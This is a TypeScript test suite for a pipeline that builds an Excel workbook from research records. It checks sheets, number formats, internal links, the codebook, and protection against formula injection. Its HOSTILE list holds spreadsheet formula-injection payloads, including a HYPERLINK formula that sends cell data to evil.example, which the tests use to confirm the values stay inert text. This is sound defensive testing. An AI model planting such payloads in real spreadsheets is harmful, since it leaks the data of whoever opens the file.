/** The Excel workbook, read back with exceljs: sheets, headers, row counts, number cells, links, hostile text, determinism. */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { createRequire } from 'node:module';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { tableNames, loadSchema, columnsOf, baseTypeOf } from '../pipeline/lib/schema.ts';
import { isFormulaLike, guardFormula, FORMULA_TRIGGERS, formulaProtectionNotes } from '../pipeline/lib/cells.ts';
import { workbookOnlyColumns, SHEET } from '../pipeline/workbook/layout.ts';
import { messages } from '../pipeline/lib/messages.ts';
import { tableToCsv } from '../pipeline/publish.ts';
import type { RecordsFile } from '../pipeline/lib/records.ts';
import { loadRecords, outputDir, recordsPath } from './helpers.ts';
import { sortedByDate } from '../pipeline/workbook/order.ts';
import { coverageOf, coverageSentence, releaseOf } from '../pipeline/lib/release.ts';
import { inferredLegend } from '../pipeline/lib/marks.ts';

const dir = mkdtempSync(join(tmpdir(), 'workbook-test-'));

/** Runs the stage as `make` does; returns its exit status and stderr. */
function runStage(input: string, out: string) {
  const r = spawnSync(process.execPath, ['--import', 'tsx', 'pipeline/workbook.ts', input, out], { env: { ...process.env, TZ: 'UTC' }, encoding: 'utf8' });
  return { status: r.status, stderr: r.stderr };
}

/** Builds a workbook from a records file and reads it back. */
async function build(input: string, name: string): Promise<{ path: string; book: ExcelJS.Workbook }> {
  const path = join(dir, name);
  const { status, stderr } = runStage(input, path);
  assert.equal(status, 0, stderr);
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(readFileSync(path) as unknown as ExcelJS.Buffer);
  return { path, book };
}

/** The texts of a sheet's row, first column to last. */
function rowTexts(sheet: ExcelJS.Worksheet, r: number): string[] {
  return Array.from({ length: sheet.columnCount }, (_, j) => sheet.getCell(r, j + 1).text);
}

/** The cell of a table sheet at a data row (0-based) and a column name. */
function cellAt(sheet: ExcelJS.Worksheet, i: number, column: string): ExcelJS.Cell {
  const j = rowTexts(sheet, 1).indexOf(column);
  assert.ok(j >= 0, `${sheet.name} has column ${column}`);
  return sheet.getCell(i + 2, j + 1);
}

/** A cell's text as stored (hyperlink cells hold {text, hyperlink}). */
function storedText(cell: ExcelJS.Cell): unknown {
  const v = cell.value as unknown;
  return v && typeof v === 'object' && 'text' in v ? (v as { text: unknown }).text : v;
}

// the workbook lists every table's rows in date order
const records = sortedByDate(loadRecords());
const real = await build(recordsPath(), 'real.xlsx');
const sheetOf = (name: string) => real.book.getWorksheet(name)!;

test('sheets are About, Codebook, then one per table in the data package order', () => {
  assert.deepEqual(real.book.worksheets.map((s) => s.name), [SHEET.about, SHEET.codebook, ...tableNames]);
});

test('each table sheet’s header is its schema’s columns, then only the documented workbook-only columns', () => {
  for (const t of tableNames) {
    const header = rowTexts(sheetOf(t), 1);
    const columns = columnsOf(loadSchema(t));
    assert.deepEqual(header.slice(0, columns.length), columns, t);
    assert.deepEqual(header.slice(columns.length), (workbookOnlyColumns[t] ?? []).map((c) => c.name), t);
    assert.equal(sheetOf(t).getCell(1, 1).font?.bold, true, `${t} header is bold`);
    assert.equal(sheetOf(t).views[0]?.state, 'frozen', `${t} header is frozen`);
    assert.equal((sheetOf(t).views[0] as { ySplit?: number }).ySplit, 1, `${t} freezes the header row`);
  }
});

test('each table sheet has one row per record and per CSV row, and a filter on its header', () => {
  for (const t of tableNames) {
    const sheet = sheetOf(t);
    assert.equal(sheet.actualRowCount - 1, records.tables[t].length, t);
    const csv = join(outputDir(), 'csv', `${t}.csv`);
    if (existsSync(csv)) assert.equal(sheet.actualRowCount - 1, parse(readFileSync(csv), { columns: true, bom: true }).length, `${t} vs ${csv}`);
    const filtered = records.tables[t].length > 0 ? sheet.getTables().length === 1 : Boolean(sheet.autoFilter);
    assert.ok(filtered, `${t} is an Excel table or has an autofilter`);
  }
});

test('numbers are number cells with a number format; counts are whole numbers; USD amounts are currency', () => {
  let checked = 0;
  for (const t of tableNames) {
    const schema = loadSchema(t);
    for (const column of columnsOf(schema)) {
      const type = baseTypeOf(schema.properties[column]);
      if (type !== 'integer' && type !== 'number') continue;
      records.tables[t].forEach((row, i) => {
        if (row[column] === null) return;
        const cell = cellAt(sheetOf(t), i, column);
        assert.equal(cell.type, ExcelJS.ValueType.Number, `${t}.${column} row ${i}`);
        assert.equal(cell.value, row[column], `${t}.${column} row ${i}`);
        assert.match(cell.numFmt ?? '', /#,##0/, `${t}.${column} has thousands separators`);
        if (type === 'integer') assert.doesNotMatch(cell.numFmt, /\./, `${t}.${column} shows no decimals`);
        if (schema.properties[column]['x-unit'] === 'US dollars') assert.match(cell.numFmt, /\$/, `${t}.${column} is currency`);
        checked++;
      });
    }
  }
  assert.ok(checked > 0, 'some numbers were checked');
});

test('dates stay ISO text; the events year helper is the number of the date’s year', () => {
  records.tables.events.forEach((row, i) => {
    const date = cellAt(sheetOf('events'), i, 'date');
    if (row.date === null) return assert.equal(date.value, null);
    assert.equal(date.type, ExcelJS.ValueType.String);
    assert.equal(date.value, row.date);
    assert.equal(cellAt(sheetOf('events'), i, 'year').value, Number(String(row.date).slice(0, 4)));
  });
});

/** The jszip that exceljs uses (exceljs does not read in-document links back, so the test reads the XML). */
const JSZip = createRequire(createRequire(import.meta.url).resolve('exceljs'))('jszip') as {
  loadAsync(data: Uint8Array): Promise<{ file(path: string): { async(type: 'string'): Promise<string> } | null }>;
};
const unescapeXml = (s: string) => s.replace(/&apos;/g, "'").replace(/&quot;/g, '"').replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&');

/** Each hyperlink of a sheet, by cell address: its in-document location, or its relationship id (external). */
async function sheetLinks(path: string, sheet: string): Promise<Map<string, { location?: string; rId?: string }>> {
  const zip = await JSZip.loadAsync(readFileSync(path));
  const read = async (p: string) => (await zip.file(p)?.async('string')) ?? '';
  const entry = (await read('xl/workbook.xml')).match(/<sheet [^>]*>/g)!.find((e) => e.includes(` name="${sheet}"`))!;
  const rId = /r:id="([^"]+)"/.exec(entry)![1];
  const target = new RegExp(`Id="${rId}" [^>]*Target="([^"]+)"`).exec(await read('xl/_rels/workbook.xml.rels'))![1];
  const xml = await read(`xl/${target.replace(/^\/?xl\//, '')}`);
  const links = new Map<string, { location?: string; rId?: string }>();
  for (const [tag] of xml.matchAll(/<hyperlink [^>]*\/>/g)) {
    const attr = (name: string) => new RegExp(`${name}="([^"]*)"`).exec(tag)?.[1];
    links.set(attr('ref')!, { location: attr('location') && unescapeXml(attr('location')!), rId: attr('r:id') });
  }
  return links;
}

test('each foreign key value links to its row in the referenced sheet; URLs are clickable', async () => {
  let links = 0;
  for (const t of tableNames) {
    const found = await sheetLinks(real.path, t);
    for (const fk of loadSchema(t)['x-table'].foreignKeys) {
      const [column] = fk.fields;
      const target = sheetOf(fk.reference.resource);
      records.tables[t].forEach((row, i) => {
        if (row[column] === null) return; // an empty optional key (finance.lender_id with no lender named) links nowhere
        const link = found.get(cellAt(sheetOf(t), i, column).address);
        assert.equal(link?.rId, undefined, `${t}.${column} row ${i} is not an external link`);
        const m = /^'([^']+)'!([A-Z]+)(\d+)$/.exec(link?.location ?? '');
        assert.ok(m, `${t}.${column} row ${i} links inside the workbook (${link?.location})`);
        assert.equal(m[1], fk.reference.resource);
        assert.equal(target.getCell(`${m[2]}${m[3]}`).text, row[column], `${t}.${column} row ${i} lands on its row`);
        links++;
      });
    }
  }
  assert.ok(links >= records.tables.mentions.length);
  records.tables.sources.forEach((s, i) => {
    if (s.url) assert.equal(cellAt(sheetOf('sources'), i, 'url').hyperlink, s.url);
  });
});

test('the Codebook describes every column of every table sheet, dates and the formula protection', () => {
  const sheet = sheetOf(SHEET.codebook);
  const top = Array.from({ length: sheet.rowCount }, (_, r) => r + 1).find((r) => sheet.getCell(r, 1).text === 'table' && sheet.getCell(r, 2).text === 'column');
  assert.ok(top, 'the codebook has a header row');
  const header = rowTexts(sheet, top);
  const rows = Array.from({ length: sheet.rowCount - top }, (_, k) => rowTexts(sheet, top + 1 + k)).filter((r) => r[0]);
  const expected = tableNames.flatMap((t) => rowTexts(sheetOf(t), 1).map((c) => `${t}.${c}`));
  assert.deepEqual(rows.map((r) => `${r[0]}.${r[1]}`), expected);
  const description = header.indexOf('description');
  const notes = header.indexOf('in this workbook');
  for (const r of rows) assert.ok(r[description].length > 10, `${r[0]}.${r[1]} has a description`);
  for (const t of tableNames) {
    const schema = loadSchema(t);
    for (const r of rows.filter((x) => x[0] === t && schema.properties[x[1]]?.pattern?.startsWith('^[0-9]{4}'))) assert.match(r[notes], /not an Excel date/, `${t}.${r[1]}`);
    for (const c of workbookOnlyColumns[t] ?? []) assert.match(rows.find((x) => x[0] === t && x[1] === c.name)![notes], /Workbook only/);
  }
  const allText = Array.from({ length: top }, (_, r) => rowTexts(sheet, r + 1).join(' ')).join(' ');
  assert.ok(allText.includes(formulaProtectionNotes.workbook), 'the codebook explains the formula protection');
});

test('the About sheet cites every source with its link, fills the citation and counts each table’s rows', () => {
  const sheet = sheetOf(SHEET.about);
  const lines = Array.from({ length: sheet.rowCount }, (_, r) => rowTexts(sheet, r + 1));
  const text = lines.map((l) => l.join(' ')).join('\n');
  assert.ok(text.includes(records.dataset.title));
  assert.ok(text.includes(String(records.data_as_of)));
  assert.ok(text.includes(releaseOf(records)), 'the release');
  assert.ok(text.includes(coverageSentence(coverageOf(records))), 'the coverage');
  assert.match(text, /Not covered/);
  assert.ok(text.includes(inferredLegend), 'the sign of an inferred date is explained');
  for (const s of records.tables.sources) {
    for (const part of [s.title, s.author, s.publisher, s.published, s.url, s.sha256]) if (part) assert.ok(text.includes(String(part)), `About cites ${part}`);
  }
  assert.doesNotMatch(text, /\{(version|sources)\}/, 'the citation template is filled in');
  for (const t of tableNames) {
    const line = lines.find((l) => l[0] === t);
    assert.ok(line, `About lists ${t}`);
    assert.equal(Number(line[2]), records.tables[t].length, `About counts ${t}`);
  }
});

test('two builds of the same records are byte-identical', async () => {
  const again = await build(recordsPath(), 'again.xlsx');
  assert.ok(readFileSync(real.path).equals(readFileSync(again.path)), 'identical bytes');
});

/** The sample records with article text that a spreadsheet could run, in quotes, summaries and names. */
const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1', '-2', '@SUM(A1:A9)', '\tx', '\rx', '=1+1\r\nsecond line', 'a _x000D_ literal'];
function hostileRecords(): RecordsFile {
  const sample = JSON.parse(readFileSync('test/fixtures/records-sample.json', 'utf8')) as RecordsFile;
  const texts = [...HOSTILE];
  for (const row of sample.tables.events) {
    if (texts.length) row.quote = texts.shift()!;
    if (texts.length) row.summary = texts.shift()!;
  }
  sample.tables.mentions[0].quote = HOSTILE[0];
  sample.tables.entities[0].aliases = HOSTILE[3];
  sample.tables.sources[0].title = HOSTILE[1];
  return sample;
}

test('text that starts with = + - @ tab or CR stays a string, shown as typed, and no cell is a formula', async () => {
  const input = join(dir, 'hostile-records.json');
  const hostile = hostileRecords();
  writeFileSync(input, JSON.stringify(hostile));
  const records = sortedByDate(hostile);
  const { book } = await build(input, 'hostile.xlsx');
  const seen = new Set<string>();
  for (const sheet of book.worksheets) {
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        assert.notEqual(cell.type, ExcelJS.ValueType.Formula, `${sheet.name}!${cell.address} is not a formula`);
        assert.equal(cell.formula, undefined);
        const text = storedText(cell);
        if (typeof text === 'string' && HOSTILE.includes(text)) {
          seen.add(text);
          assert.equal(cell.numFmt, '@', `${sheet.name}!${cell.address} is formatted as Text`);
        }
      }),
    );
  }
  assert.deepEqual([...seen].sort(), [...HOSTILE].sort(), 'every hostile text came back exactly as typed');
  const events = book.getWorksheet('events')!;
  records.tables.events.forEach((row, i) => {
    assert.equal(cellAt(events, i, 'quote').value, row.quote);
    assert.equal(cellAt(events, i, 'quote').type, ExcelJS.ValueType.String);
  });
});

test('guardFormula prefixes exactly the texts OWASP lists, and nothing else', () => {
  for (const c of FORMULA_TRIGGERS) {
    assert.ok(isFormulaLike(`${c}x`));
    assert.equal(guardFormula(`${c}x`), `'${c}x`);
  }
  for (const safe of ['', 'x=1', ' =1', "'=1", '1', 'ev-0123', '\nx']) {
    assert.equal(isFormulaLike(safe), false, JSON.stringify(safe));
    assert.equal(guardFormula(safe), safe);
  }
  assert.match(formulaProtectionNotes.csv, /OWASP/);
});

test('the CSV files apply the same protection as guardFormula', () => {
  const texts = [...FORMULA_TRIGGERS.map((c) => `${c}x`), 'x=1', ' =1', '-2'];
  const schema = loadSchema('entities');
  const csv = tableToCsv(texts.map((t, i) => ({ entity_id: `e${i}`, name: t, type: 'place', country: null, aliases: null })), schema);
  const rows = parse(csv, { columns: true }) as Record<string, string>[];
  assert.deepEqual(rows.map((r) => r.name), texts.map(guardFormula));
});

test('bad input fails with one clear message and writes nothing', () => {
  const out = join(dir, 'never.xlsx');
  const missing = runStage(join(dir, 'missing.json'), out);
  assert.equal(missing.status, 1);
  assert.equal(missing.stderr.trim(), `error [workbook]: ${messages.fileMissing(join(dir, 'missing.json'), 'records')}`);
  const undated = join(dir, 'undated.json');
  writeFileSync(undated, JSON.stringify({ ...loadRecords(), data_as_of: 'March 2011' }));
  const bad = runStage(undated, out);
  assert.equal(bad.status, 1);
  assert.equal(bad.stderr.trim(), `error [workbook]: ${messages.badDataAsOf(undated, 'March 2011')}`);
  assert.equal(existsSync(out), false);
});

test('the stage usage line is shown without arguments', () => {
  const r = spawnSync(process.execPath, ['--import', 'tsx', 'pipeline/workbook.ts'], { encoding: 'utf8' });
  assert.equal(r.status, 1);
  assert.ok(r.stderr.includes(messages.workbookUsage()));
});

test('rows are in date order; events show names beside codes, ≈ on inferred dates, ↔ for mutual acts, and link to their detail rows', async () => {
  const events = sheetOf('events');
  const links = await sheetLinks(real.path, 'events');
  const dates = records.tables.events.map((e) => e.date).filter((d): d is string => d !== null);
  assert.deepEqual(dates, [...dates].sort(), 'events by date');
  records.tables.events.forEach((e, i) => {
    const shown = String(cellAt(events, i, 'date_shown').value ?? '');
    if (e.date !== null) assert.equal(shown.startsWith('≈ '), e.date_basis === 'inferred_from_context' || e.date_basis === 'relative_to_publication', `${e.event_id} date_shown`);
    const countries = String(cellAt(events, i, 'countries').value ?? '');
    if (e.actor_2 !== null) assert.ok(countries.includes(e.direction === 'mutual' ? ' ↔ ' : ' → '), `${e.event_id} countries`);
    const detail = links.get(cellAt(events, i, 'details').address);
    const table = (['visits', 'agreements', 'finance', 'indicators'] as const).find((t) => records.tables[t].some((r) => r.event_id === e.event_id));
    if (table) {
      const row = records.tables[table].findIndex((r) => r.event_id === e.event_id);
      assert.equal(detail?.location, `'${table}'!A${row + 2}`, `${e.event_id} links to its ${table} row`);
    } else assert.equal(detail, undefined);
  });
  const visits = sheetOf('visits');
  records.tables.visits.forEach((v, i) => {
    if (v.from_country) assert.notEqual(cellAt(visits, i, 'from_country_name').value, null, 'a name beside the code');
  });
  for (const t of tableNames) {
    const sheet = sheetOf(t);
    assert.equal(sheet.pageSetup.orientation, 'landscape', t);
    assert.equal(sheet.pageSetup.fitToWidth, 1, t);
    assert.equal(sheet.pageSetup.printTitlesRow, '1:1', t);
  }
});
